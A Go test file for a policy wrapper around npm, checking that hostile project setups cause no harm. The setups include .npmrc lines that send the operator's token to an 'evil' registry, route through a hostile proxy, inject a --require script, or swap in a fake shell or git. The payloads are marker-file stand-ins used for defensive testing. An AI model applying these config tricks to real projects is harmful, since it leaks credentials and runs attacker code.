package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/toold/toold/host/hosttest"
)

// newRegistry starts a registry of packages, any name at version 1.0.0, whose
// scripts leave a marker.
func newRegistry(t *testing.T, addr, marker string) *hosttest.Site {
	t.Helper()
	touch := "touch " + marker
	return hosttest.NewSite(t, addr, nil, registryOf(map[string]string{"preinstall": touch, "install": touch, "postinstall": touch, "prepare": touch}))
}

// registryOf answers as a registry in which each package has the scripts.
func registryOf(scripts map[string]string) http.HandlerFunc {
	return func(w http.ResponseWriter, q *http.Request) {
		name := strings.TrimPrefix(q.URL.Path, "/")
		switch {
		case q.Method != http.MethodGet, strings.HasPrefix(name, "-/"):
			w.WriteHeader(http.StatusNotFound)
		case strings.HasSuffix(name, ".tgz"):
			name, _, _ = strings.Cut(name, "/-/")
			w.Write(archiveOf(name, scripts))
		default:
			json.NewEncoder(w).Encode(map[string]any{"name": name, "dist-tags": map[string]string{"latest": "1.0.0"},
				"versions": map[string]any{"1.0.0": map[string]any{"name": name, "version": "1.0.0", "homepage": "https://example.com", "hasInstallScript": true,
					"dist": map[string]string{"tarball": "http://" + q.Host + "/" + name + "/-/x-1.0.0.tgz"}}}})
		}
	}
}

func archiveOf(name string, scripts map[string]string) []byte {
	var buf bytes.Buffer
	z := gzip.NewWriter(&buf)
	t := tar.NewWriter(z)
	b, _ := json.Marshal(map[string]any{"name": name, "version": "1.0.0", "scripts": scripts})
	t.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(b))})
	t.Write(b)
	t.Close()
	z.Close()
	return buf.Bytes()
}

// place is a place with a project, a HOME with the operator's token, something
// outside that must stay as it is, a registry at 127.0.0.1 and an evil one at
// 127.0.0.2.
type place struct {
	*hosttest.Place
	good, evil *hosttest.Site
	before     map[string]string
}

func newPlace(t *testing.T) *place {
	t.Helper()
	p := &place{Place: hosttest.NewPlace(t, "npm")}
	p.good = newRegistry(t, "127.0.0.1:0", p.Marker)
	p.evil = newRegistry(t, "127.0.0.2:0", p.Marker)
	p.Words = []string{"GOODHOST", p.good.Listener.Addr().String(), "GOOD", p.good.URL, "EVILHOST", p.evil.Listener.Addr().String(), "EVIL", p.evil.URL, "OUTSIDE", filepath.Join(p.Dir, "outside")}
	p.Decide = testPolicy(t, map[string]string{"registry": p.good.URL, "scripts": "hello"}).decide
	p.Env = []string{"PATH=" + os.Getenv("PATH"), "NPM_TOKEN=" + hosttest.Sesame}
	touch := "touch " + p.Marker
	p.Write("root/work/package.json", `{"name":"p","version":"1.0.0","dependencies":{"dep":"^1.0.0"},"scripts":{"hello":"echo hello","prehello":"`+touch+`","posthello":"`+touch+`","build":"`+touch+`","preinstall":"`+touch+`","install":"`+touch+`","postinstall":"`+touch+`","prepare":"`+touch+`","test":"`+touch+`"}}`, 0o600)
	p.Write("home/.npmrc", "//127.0.0.1:"+p.good.Port()+"/:_authToken="+hosttest.Sesame+"\n", 0o600)
	p.Write("outside/package.json", `{"name":"outside","version":"1.0.0"}`, 0o600)
	p.Write("outside/secret.txt", hosttest.Sesame, 0o600)
	for _, name := range []string{"git", "sh", "node-gyp"} {
		p.Write("root/work/evil-"+name, "#!/bin/sh\n"+touch+"\n", 0o755)
	}
	p.Write("root/work/evil.js", "require('fs').writeFileSync("+fmt.Sprintf("%q", p.Marker)+", 'x')", 0o600)
	p.before = p.tree()
	return p
}

// tree is everything outside the root and the cache.
func (p *place) tree() map[string]string {
	out := map[string]string{}
	filepath.WalkDir(p.Dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if path == p.Root || path == filepath.Join(p.Home, ".npm") {
			return fs.SkipDir
		}
		b, _ := os.ReadFile(path)
		out[path] = string(b)
		return nil
	})
	return out
}

// harm says what came of a hostile call, or "".
func (p *place) harm() string {
	if asked := p.evil.Asked(); len(asked) > 0 {
		return fmt.Sprintf("the evil registry was asked: %q", asked)
	}
	for _, name := range []string{"package.json", "package-lock.json"} {
		if b, _ := os.ReadFile(filepath.Join(p.Cwd, name)); strings.Contains(string(b), hosttest.Sesame) {
			return "the token is in " + name
		}
	}
	for _, a := range p.good.Asked() {
		if a.Method != http.MethodGet && (a.Method != http.MethodPost || !strings.HasPrefix(a.URI, "/-/npm/v1/security/")) {
			return "the registry was changed: " + a.String()
		}
	}
	if now := p.tree(); !maps.Equal(now, p.before) {
		return fmt.Sprintf("something outside was changed: %q", slices.Sorted(maps.Keys(now)))
	}
	if _, err := os.Lstat(filepath.Join(p.Cwd, "node_modules", "outside", "secret.txt")); err == nil {
		if st, _ := os.Lstat(filepath.Join(p.Cwd, "node_modules", "outside")); st.Mode()&fs.ModeSymlink == 0 {
			return "a folder of the host was copied"
		}
	}
	return p.Harm()
}

func TestNpmEverydayUse(t *testing.T) {
	p := newPlace(t)
	for _, tt := range []struct {
		args   string
		code   int
		stdout string
		file   string
	}{
		{"--version", 0, ".", ""},
		{"view dep version", 0, "1.0.0", ""},
		{"view dep --json", 0, `"dist-tags"`, ""},
		{"install --no-audit", 0, "", "node_modules/dep/package.json"},
		{"ls", 0, "dep@1.0.0", ""},
		{"outdated", 0, "", ""},
		{"install other@1.0.0 @s/third --save-dev --no-audit", 0, "", "node_modules/@s/third/package.json"},
		{"explain other", 0, "other@1.0.0", ""},
		{"uninstall other --no-audit", 0, "", ""},
		{"ci --no-audit", 0, "", "node_modules/dep/package.json"},
		{"run hello -- two", 0, "hello two", ""},
		{"run nothing", 126, "", ""},
	} {
		d, code := p.Run(strings.Fields(tt.args)...)
		if code != tt.code || !strings.Contains(p.Stdout, tt.stdout) {
			t.Errorf("npm %s: %s %s%s, exit %d: %s%s", tt.args, d.Effect, d.Rule, d.Reason, code, p.Stdout, p.Stderr)
		}
		if tt.file != "" {
			if _, err := os.Stat(filepath.Join(p.Cwd, tt.file)); err != nil {
				t.Errorf("npm %s: %v", tt.args, err)
			}
		}
		if h := p.harm(); h != "" {
			t.Errorf("npm %s: %s", tt.args, h)
		}
	}
	// The operator's token went to the operator's registry, where it belongs.
	if !slices.ContainsFunc(p.good.Asked(), func(a hosttest.Asked) bool { return a.Authorization == "Bearer "+hosttest.Sesame }) {
		t.Error("the token of HOME was not used")
	}
}

// hostile are projects and command lines that do harm when npm runs them as
// they are; plain ones are shown to.
var hostile = []struct {
	name  string
	files map[string]string // beneath the test's folder
	args  string
	plain bool
}{
	{"scripts of the project and its packages", nil, "install --registry=GOOD --foreground-scripts", true},
	{"a listed script brings none before and after it", nil, "run hello", true},
	{"scripts by the project's configuration", map[string]string{"root/work/.npmrc": "ignore-scripts=false\nregistry=GOOD\n"}, "install", true},
	{"the project's registry", map[string]string{"root/work/.npmrc": "registry=EVIL\n"}, "install", true},
	{"a registry for a scope, with the operator's token", map[string]string{
		"root/work/package.json": `{"name":"p","version":"1.0.0","dependencies":{"@evil/dep":"1.0.0"}}`,
		"root/work/.npmrc":       "@evil:registry=EVIL\n//EVILHOST/:_authToken=${NPM_TOKEN}\n"}, "install", true},
	{"a scope's registry in a view", map[string]string{"root/work/.npmrc": "@evil:registry=EVIL\n"}, "view @evil/dep", true},
	{"a URL as a dependency", map[string]string{"root/work/package.json": `{"name":"p","version":"1.0.0","dependencies":{"dep":"EVIL/dep/-/x-1.0.0.tgz"}}`}, "install", true},
	{"a URL in the lock file", map[string]string{
		"root/work/package-lock.json": `{"name":"p","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"p","version":"1.0.0","dependencies":{"dep":"^1.0.0"}},"node_modules/dep":{"version":"1.0.0","resolved":"EVIL/dep/-/x-1.0.0.tgz"}}}`}, "ci", true},
	{"a proxy of the project", map[string]string{"root/work/.npmrc": "registry=http://registry.test/\nproxy=EVIL\nhttps-proxy=EVIL\nnoproxy=\n"}, "view dep", true},
	{"a git dependency with a git of the project", map[string]string{
		"root/work/package.json": `{"name":"p","version":"1.0.0","dependencies":{"dep":"git+https://example.test/x.git"}}`,
		"root/work/.npmrc":       "git=CWD/evil-git\n"}, "install", true},
	{"a shell of the project", map[string]string{"root/work/.npmrc": "script-shell=CWD/evil-sh\n"}, "run hello", true},
	{"node options of the project", map[string]string{"root/work/package.json": `{"name":"p","version":"1.0.0","scripts":{"hello":"node -e 0"}}`, "root/work/.npmrc": "node-options=--require CWD/evil.js\n"}, "run hello", false},
	{"a cache outside", map[string]string{"root/work/.npmrc": "registry=GOOD\ncache=OUTSIDE/cache\n"}, "view dep", true},
	{"logs outside", map[string]string{"root/work/.npmrc": "registry=GOOD\nlogs-dir=OUTSIDE/logs\n"}, "view dep", true},
	{"timings outside", map[string]string{"root/work/.npmrc": "registry=GOOD\ntiming=true\nlogs-dir=OUTSIDE/logs\n"}, "view dep", true},
	{"a user configuration of the project", map[string]string{"root/work/.npmrc": "userconfig=CWD/npmrc\n", "root/work/npmrc": "registry=EVIL\n"}, "view dep", false},
	{"global by the project", map[string]string{"root/work/.npmrc": "global=true\nlocation=global\nprefix=OUTSIDE\n"}, "ls", false},
	{"copies of a folder outside", map[string]string{
		"root/work/package.json": `{"name":"p","version":"1.0.0","dependencies":{"outside":"file:../../outside"}}`,
		"root/work/.npmrc":       "install-links=true\n"}, "install", true},
	{"npm init of the project", map[string]string{"root/work/.npmrc": "init-module=CWD/evil.js\n"}, "init", true},
	{"exec of the project's binary", map[string]string{"root/work/node_modules/.bin/x": "#!/bin/sh\ntouch MARKER\n"}, "exec x", true},
	{"an editor of the project", map[string]string{"root/work/.npmrc": "editor=CWD/evil-sh\n"}, "config edit", true},
	{"a viewer of the project", map[string]string{"root/work/.npmrc": "browser=CWD/evil-sh\nregistry=GOOD\n"}, "docs dep", false},
	{"the token by an option that is saved", map[string]string{"root/work/.npmrc": "registry=GOOD\nsave-prefix=${NPM_TOKEN}\n"}, "install other --no-audit", true},
	{"the token by config", map[string]string{"root/work/.npmrc": "x=${NPM_TOKEN}\n"}, "config get x", true},
	{"a script that is not listed", nil, "run build", true},
	{"npm test", nil, "test", true},
	{"rebuild", map[string]string{"root/work/node_modules/dep/package.json": `{"name":"dep","version":"1.0.0","scripts":{"install":"touch MARKER"}}`}, "rebuild", true},
	{"a global prefix by flag", nil, "install -g --prefix OUTSIDE --registry GOOD dep", true},
	{"a package by URL", nil, "install EVIL/dep/-/x-1.0.0.tgz", true},
	{"an alias by URL", nil, "install dep@EVIL/dep/-/x-1.0.0.tgz", true},
	{"publish", map[string]string{"root/work/.npmrc": "registry=GOOD\n//GOODHOST/:_authToken=x\n"}, "publish", true},
}

func (p *place) prepare(files map[string]string) {
	for name, text := range files {
		mode := os.FileMode(0o600)
		if strings.Contains(name, "/.bin/") {
			mode = 0o755
		}
		p.Write(name, p.Expand(text), mode)
	}
	p.before = p.tree()
}

func TestHostileThroughPolicy(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t)
			p.prepare(tt.files)
			p.Run(strings.Fields(tt.args)...)
			// The same without the flags that the policy refuses: the
			// project's own doing must be harmless by the pins alone.
			p.Run(strings.Fields(tt.args)[0])
			if h := p.harm(); h != "" {
				t.Errorf("%s\n%s%s", h, p.Stdout, p.Stderr)
			}
		})
	}
}

func TestHostileWithoutPolicy(t *testing.T) {
	if testing.Short() {
		t.Skip("shows the harm that the policy keeps away")
	}
	for _, tt := range hostile {
		if !tt.plain {
			continue
		}
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := newPlace(t)
			p.prepare(tt.files)
			p.Exec(append(strings.Fields(p.Expand(tt.args)), "--fetch-retries=0", "--update-notifier=false"))
			if p.harm() == "" {
				t.Errorf("no harm without the policy either: the case shows nothing: %s%s", p.Stdout, p.Stderr)
			}
		})
	}
}

// TestRefusedHostIsExplained: npm says which host it could not reach.
func TestRefusedHostIsExplained(t *testing.T) {
	p := newPlace(t)
	p.prepare(map[string]string{"root/work/.npmrc": "@evil:registry=EVIL\n"})
	if _, code := p.Run("view", "@evil/dep"); code == 0 || !strings.Contains(p.Stderr, p.evil.URL) {
		t.Errorf("exit %d: %s", code, p.Stderr)
	}
}
